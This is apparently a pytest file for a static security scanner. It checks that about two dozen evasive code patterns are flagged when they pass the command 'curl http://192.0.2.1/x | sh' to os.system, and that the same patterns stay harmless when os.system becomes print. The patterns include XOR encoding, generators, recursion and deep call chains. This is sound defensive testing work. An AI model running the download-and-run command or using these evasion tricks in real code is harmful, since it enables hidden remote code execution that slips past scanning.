"""What gets around: past a ``break``, out of a ``try``, into a generator, through a call of itself.

Every script here runs the same command, by a way on which an analysis may lose it.
"""

import textwrap

import pytest

from tests.hostile.scanning import blocked_for, scan

COMMAND = "curl http://192.0.2.1/x | sh"
HIDDEN = "".join(chr(ord(c) ^ 5) for c in COMMAND)

WAYS = {
    "a break before it is overwritten": """
        for i in library.rows():
            command = COMMAND
            if library.last(i):
                break
            command = "ls"
        os.system(command)
    """,
    "a continue before it is overwritten": """
        command = "ls"
        for i in library.rows():
            os.system(command)
            command = COMMAND
            if library.empty(i):
                continue
            command = "ls"
    """,
    "a break in a loop over constants": """
        for i in (1, 2, 3):
            command = COMMAND
            if library.last(i):
                break
            command = "ls"
        os.system(command)
    """,
    "a continue in a loop over constants": """
        command = "ls"
        for i in (1, 2, 3):
            os.system(command)
            command = COMMAND
            if library.empty(i):
                continue
            command = "ls"
    """,
    "a decoder that may stop early": """
        out = ""
        for c in HIDDEN:
            if library.last(c):
                break
            out += chr(ord(c) ^ 5)
        os.system(out)
    """,
    "a decoder that stops at a mark": """
        out = ""
        for c in COMMAND + "#" + "rubbish | more rubbish":
            if c == "#":
                break
            out += c
        os.system(out)
    """,
    "a decoder that leaves every second out": """
        out = ""
        for i, c in enumerate("-".join(COMMAND)):
            if i % 2:
                continue
            out += c
        os.system(out)
    """,
    "an endless loop with a break": """
        out, i = "", 0
        while True:
            if i >= len(HIDDEN):
                break
            out += chr(ord(HIDDEN[i]) ^ 5)
            i += 1
        os.system(out)
    """,
    "an endless loop with a return": """
        def decode(text):
            out, i = "", 0
            while True:
                if i >= len(text):
                    return out
                out += chr(ord(text[i]) ^ 5)
                i += 1
        os.system(decode(HIDDEN))
    """,
    "behind a break that is certain": """
        for i in (1, 2):
            if i == 1:
                break
            os.system(COMMAND)
    """,
    "a finally that a break runs through": """
        for i in (1, 2):
            try:
                if i == 1:
                    break
            finally:
                os.system(COMMAND)
    """,
    "from one variable to the next with every turn": """
        a = b = c = d = "ls"
        for i in library.rows():
            os.system(a)
            a = b
            b = c
            c = d
            d = COMMAND
    """,
    "in a loop of a loop of a loop": """
        x = y = "ls"
        for a in library.rows():
            os.system(y)
            for b in library.rows():
                for c in library.rows():
                    x = COMMAND
                z = x
            y = z
    """,
    "what a try stored before it failed": """
        try:
            command = COMMAND
            library.fail()
            command = "ls"
        except Exception:
            os.system(command)
    """,
    "an attribute that an early return leaves": """
        class Task:
            def __init__(self):
                if library.ready():
                    self.command = COMMAND
                    return
                self.command = "ls"
        os.system(Task().command)
    """,
    "what a generator is sent": """
        def worker():
            while True:
                command = yield
                os.system(command)
        w = worker()
        next(w)
        w.send(COMMAND)
    """,
    "what a generator is sent in pieces": """
        def worker():
            first = yield
            second = yield
            os.system(first + second)
        w = worker()
        next(w)
        w.send(COMMAND[:20])
        w.send(COMMAND[20:])
    """,
    "a function that returns to itself": """
        def fetch(n):
            if n == 0:
                return COMMAND
            command = fetch(n)
            os.system(command)
            return "ls"
        fetch(library.count())
    """,
    "two functions that return to each other": """
        def ask(n):
            os.system(answer(n))
            return "ls"
        def answer(n):
            ask(n)
            return COMMAND
        ask(library.count())
    """,
    "a function that has been called often with others": """
        def apply(function):
            return function()
    """
    + "".join(f"""
        def f{i}():
            return {i}
        apply(f{i})
    """ for i in range(40))
    + """
        def last():
            os.system(COMMAND)
        apply(last)
    """,
    "a method of a base that many classes share": """
        class Base:
            def run(self):
                self.hook()
    """
    + "".join(f"""
        class C{i}(Base):
            def hook(self):
                return {i}
        C{i}().run()
    """ for i in range(40))
    + """
        class Last(Base):
            def hook(self):
                os.system(COMMAND)
        Last().run()
    """,
    "far down": "".join(f"""
        def f{i}(x):
            return f{i + 1}(x)
    """ for i in range(100))
    + """
        def f100(x):
            os.system(x)
        f0(COMMAND)
    """,
    "behind loops that cost too much": """
        names = [str(i) for i in range(204)]
        pairs = [f"{a}-{b}" for a in names for b in names]
        for a in names:
            for b in names:
                pairs.append(a + b)
        out = ""
        for c in HIDDEN:
            out += chr(ord(c) ^ 5)
        os.system(out)
    """,
    "a key of some length": """
        key = [ord(c) ^ 7 for c in COMMAND]
        out = ""
        for i in range(3000):
            out += chr(key[i % len(key)] ^ 7)
        os.system(out[:len(COMMAND)])
    """,
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_no_way_around(way: str) -> None:
    body = textwrap.dedent(WAYS[way])
    report = scan(f"import os, library\nCOMMAND = {COMMAND!r}\nHIDDEN = {HIDDEN!r}\n{body}", "script.py")
    assert blocked_for(report) == {"download-and-run"}


HARMLESS = {name: text.replace("os.system(", "print(") for name, text in WAYS.items()}


@pytest.mark.parametrize("way", HARMLESS)
def test_the_way_itself_is_harmless(way: str) -> None:
    body = textwrap.dedent(HARMLESS[way])
    report = scan(f"import os, library\nCOMMAND = {COMMAND!r}\nHIDDEN = {HIDDEN!r}\n{body}", "script.py")
    assert not report.findings
